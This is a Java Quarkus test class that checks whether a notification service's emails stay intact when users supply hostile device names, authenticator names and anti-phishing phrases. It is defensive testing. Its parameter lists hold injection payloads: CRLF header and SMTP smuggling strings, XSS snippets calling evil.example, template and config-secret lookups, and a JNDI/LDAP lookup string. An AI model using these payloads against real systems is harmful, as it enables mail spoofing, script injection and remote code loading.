package io.portcullis.notification.letter;

import static org.assertj.core.api.Assertions.assertThat;

import io.portcullis.contracts.MfaEvent.AuthenticatorEnrolled;
import io.portcullis.contracts.MfaEvent.AuthenticatorType;
import io.portcullis.contracts.SessionEvent.DeviceRecognition;
import io.portcullis.notification.OnTheStack;
import io.portcullis.notification.OtherServices;
import io.portcullis.notification.OtherServices.Person;
import io.portcullis.notification.alert.Samples;
import io.portcullis.testkit.CustomerTokens;
import io.portcullis.testkit.Mailbox;
import io.portcullis.testkit.Mailbox.Delivered;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import jakarta.inject.Inject;
import java.time.Instant;
import java.util.Map;
import java.util.Set;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// What others chose (device names, authenticator names, the phrase) meets the MIME that arrives.
@QuarkusTest
@OnTheStack
class MailInjectionTest {

  /// Ours, and the two that the receiving server adds.
  private static final Set<String> HEADERS = Set.of("MIME-Version", "Message-ID", "Date", "Subject", "From", "To",
      "Content-Type", "Auto-Submitted", "Received", "Return-Path");

  @Inject OtherServices others;
  @Inject CustomerTokens tokens;

  private final Mailbox mailbox = new Mailbox();

  @ParameterizedTest
  @ValueSource(strings = {
      "x\r\nBcc: eve@example.org\r\n\r\nYou won", "x\nSubject: pwned", "\r\n.\r\nMAIL FROM:<eve@example.org>\r\n",
      "<script>alert(1)</script>", "\"><img src=https://evil.example/x onerror=alert(1)>", "</title><h1>", "&lt;b&gt;",
      "{config:portcullis.database-password}", "{page.freezeLink}", "{#include x}", "${jndi:ldap://evil.example/a}",
      "=?utf-8?Q?=3Cb=3E?=", "\u202Eetanimret\u2066\u200F", "a\u0000b\u001b[31m\u0085\u2028c", "👩‍👩‍👧‍👦 زبان‌ها"})
  void injection_givenAHostileDeviceName_thenTheMailIsStillOurs(String device) {
    Person alice = others.aPerson();
    others.publish(Samples.signIn(alice.account(), DeviceRecognition.NEW, device));

    Delivered mail = mailbox.await(alice.email(), 1).getFirst();

    assertOrdinary(mail, alice);
    String shown = PlainText.of(device);
    assertThat(mail.text().lines()).contains("Device: " + shown);
    assertThat(mail.html()).contains("<bdi>" + escaped(shown) + "</bdi>");
    assertThat(mail.text()).doesNotContain("\u202E", "\u2066", "\u200F", "\u0000", "\u001b", "\u2028");
  }

  @Test
  void injection_givenNamesOf10kB_thenNoMailPrintsThem() {
    Person alice = others.aPerson();
    others.publish(Samples.signIn(alice.account(), DeviceRecognition.NEW, "A".repeat(10_240)));
    others.publish(Samples.signIn(alice.account(), DeviceRecognition.NEW, "Firefox"));

    // One partition: the second one is told after the first was put aside.
    assertThat(mailbox.await(alice.email(), 1)).allSatisfy(mail -> assertThat(mail.text()).contains("Device: Firefox"));
  }

  @Test
  void injection_givenTheLongestNamesThatAreRead_thenTheyAreCutShort() {
    Person alice = others.aPerson();
    others.publish(Samples.signIn(alice.account(), DeviceRecognition.NEW, "A".repeat(2_000)));
    others.publish(new AuthenticatorEnrolled(OtherServices.anEvent(), alice.account(), Instant.now(),
        AuthenticatorType.TOTP, "<b>" + "🔑".repeat(900), Optional.empty(), Optional.empty()));

    assertThat(mailbox.await(alice.email(), 2)).allSatisfy(mail -> {
      assertOrdinary(mail, alice);
      assertThat(mail.text()).hasSizeLessThan(2_500);
      assertThat(mail.html()).hasSizeLessThan(6_000);
    });
  }

  @ParameterizedTest
  @ValueSource(strings = {"<b>bold</b>", "\"'&<>", "{page.code}", "שלום עולם", "👩‍👩‍👧‍👦🔑🦊🐢", "--- x ---", "Cc: eve@x.org"})
  void injection_givenAHostilePhrase_thenItIsShownVerbatimBetweenItsMarks(String phrase) {
    Person alice = others.aPerson();
    RestAssured.given().auth().oauth2(tokens.of(alice.account())).contentType("application/json")
        .body(Map.of("code", phrase)).put("/v1/anti-phishing-code").then().statusCode(204);

    Delivered mail = mailbox.await(alice.email(), 1).getFirst();

    assertOrdinary(mail, alice);
    assertThat(mail.text().lines()).containsSubsequence(
        "--- Your anti-phishing phrase ---", phrase, "-----------------------");
    assertThat(mail.html()).contains("<bdi>" + escaped(phrase) + "</bdi>");
  }

  private static void assertOrdinary(Delivered mail, Person to) {
    assertThat(mail.headers().keySet()).isSubsetOf(HEADERS);
    assertThat(mail.headers().get("To").toString()).isEqualTo(to.email());
    assertThat(mail.subject()).hasSizeLessThanOrEqualTo(78).matches("[A-Za-z -]+");
    assertThat(mail.html()).doesNotContain("<script", "<img", "</title><h1>", "onerror=alert(1)>");
  }

  // OWASP: the five characters that matter in HTML text and attributes.
  private static String escaped(String text) {
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\"", "&quot;").replace("'", "&#39;");
  }
}
